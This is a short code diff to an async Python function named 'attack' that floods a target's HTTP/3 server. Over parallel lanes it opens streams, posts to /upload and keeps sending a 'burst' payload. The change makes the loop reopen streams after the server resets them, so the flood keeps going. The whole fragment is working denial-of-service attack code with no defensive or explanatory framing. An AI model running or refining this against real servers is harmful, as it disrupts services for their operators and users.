@@ -8,10 +8,10 @@ async def attack(target):
 
     async def lane(number):
         async with http3(target, target.source(number)) as it:
-            if it:
+            while it and target.goes_on():
                 stream = it.stream()
                 await it.send(stream, ask(b"POST", b"/upload"))
-                while target.goes_on():
+                while target.goes_on() and stream not in it.reset:
                     await it.send(stream, burst)
 
     await target.lanes(2, lane)
